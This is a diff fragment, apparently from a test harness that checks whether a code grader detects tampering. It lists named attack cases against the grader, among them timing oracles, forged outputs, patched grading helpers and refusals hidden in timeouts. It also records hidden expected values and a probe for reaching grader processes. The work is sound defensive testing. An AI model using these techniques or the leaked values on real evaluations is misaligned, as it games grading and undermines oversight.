+    "leaves_traps_for_next": (leaves_traps_for_next, "complete", set()),
+    "patches_grading_helpers": (patches_grading_helpers, "untouched", set()),
+    "late_frames_from_thread": (late_frames_from_thread, "complete", set()),
+    "timing_oracle": (timing_oracle, "complete", {"test_sigmoid"}),
+    "unicode_names": (unicode_names, "complete", set()),
+    "stale_handles_after_restart": (stale_handles_after_restart, "complete", {"test_feed_forward"}),
+    "lying_exceptions": (lying_exceptions, "complete", {"test_add_bias", "test_sigmoid", "test_log_loss"}),
+    "garbage_before_reply": (garbage_before_reply, "complete", {"test_log_loss"}),
+    "shape_lies": (shape_lies, "untouched", set()),
+    "fake_numpy_scalars": (fake_numpy_scalars, "untouched", set()),
+    "forged_outputs": (forged_outputs, "untouched", set()),
+    "forks_with_the_channel": (forks_with_the_channel, "complete", set()),
+    "model_of_lies": (model_of_lies, "untouched", set()),
+    "hides_refusals_in_a_timeout": (hides_refusals_in_a_timeout, "complete", {"test_train"}),
     # graded in a run of its own (SEPARATE_RUN)
     "exits_the_grader_by_file_name": (exits_the_grader_by_file_name, "complete", set()),
 }
@@ -959,7 +1695,11 @@ NEVER_RUN_IN_GRADER = {"library_classes_as_answers": ["scipy/io/", "numpy/testin
                                                       "joblib/parallel.py"]}
 # Values of hidden checks that must not reach the attacker's feedback or journal row (as the
 # grader's messages print them: six significant digits).
-HIDDEN_VALUES = {"hidden_expected_in_message": ["0.377541", "0.952574", "0.182426", "0.562177", "0.997527"]}
+HIDDEN_VALUES = {"hidden_expected_in_message": ["0.377541", "0.952574", "0.182426", "0.562177", "0.997527"],
+                 "timing_oracle": ["0.377541", "0.952574", "0.182426", "0.562177", "0.997527"]}
+# Probes that print what they reached in a cell of their own: (the marker that says the probe ran,
+# what must not be in its feedback).
+PROBES = {"reaches_grader_processes": ("PROBED_reaches_grader_processes", "REACHED:")}
 # What the grader must have seen and reported (tamper report kinds) for each attack.
 REPORTED = {
     "rebinds_grader_names": "sent the grader's tests what they did not ask for",
@@ -978,6 +1718,11 @@ REPORTED = {
     "unserved_requests": "sent the grader's tests what they did not ask for",
     "anomaly_quota_flood": "sent the grader's tests what they did not ask for",
     "odd_keywords": "sent the grader's tests what they did not ask for",
+    "unreadable_dtypes": "sent the grader's tests what they did not ask for",
+    "unicode_names": "sent the grader's tests what they did not ask for",
+    "stale_handles_after_restart": "sent the grader's tests what they did not ask for",
+    "garbage_before_reply": "sent the grader's tests what they did not ask for",
+    "hides_refusals_in_a_timeout": "sent the grader's tests what they did not ask for",
 }
 
 
